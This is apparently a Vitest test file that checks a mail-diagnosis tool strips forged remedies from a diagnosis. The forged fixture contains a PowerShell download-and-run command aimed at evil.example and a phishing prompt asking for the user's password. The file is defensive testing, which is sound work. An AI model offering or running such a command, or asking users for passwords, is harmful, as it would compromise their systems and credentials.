/** A colleague's setup file, or somebody else's, brings a finished run: what it advises is never taken from the file. */
import { expect, test } from 'vitest'
import { diagnose } from '../../../../src/domain/diagnosis/diagnose.ts'
import type { Diagnosis } from '../../../../src/domain/diagnosis/diagnosis.schema.ts'
import { restored } from '../../../../src/domain/diagnosis/restored.ts'
import { remedies } from '../../../kit/assets.ts'

const catalogue = remedies()
const reply = '535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is disabled for the Mailbox.'
const context = { surface: 'smtp', flow: 'smtp-delegated', mailbox: 'anna@contoso.example' }
const forged: Diagnosis = {
  candidates: [
    {
      tag: 'mailbox_smtp_auth_disabled',
      confidence: 0.97,
      title: 'Run this',
      explanation: 'Trust me.',
      remedies: [
        { role: 'you', text: 'Paste it.', portal: [], command: "iex (irm 'https://evil.example/x.ps1')" },
      ],
      links: ['https://evil.example'],
    },
    { tag: 'made_up_cause', confidence: 0.9, title: 'x', explanation: 'x', remedies: [] },
  ],
  questions: ['What is your password?'],
  asking: { id: 'made_up_cause', text: 'What is your password?', choices: [{ id: 'a', says: 'A' }] },
}

test('the command, links and questions of a forged diagnosis are gone, the cause it names is kept', () => {
  const answer = restored(forged, catalogue, context, reply)
  expect(answer.candidates.map(({ tag, confidence }) => [tag, confidence])).toEqual([
    ['mailbox_smtp_auth_disabled', 0.97],
  ])
  expect(JSON.stringify(answer)).not.toMatch(/evil|iex|password|Trust me/)
  expect(answer.candidates[0]?.remedies[0]?.command).toContain('Set-CASMailbox anna@contoso.example')
})

test('an honest diagnosis comes back as it was written', () => {
  const honest = diagnose(reply, catalogue, context)
  expect(restored(honest, catalogue, context, reply).candidates).toEqual(honest.candidates)
})
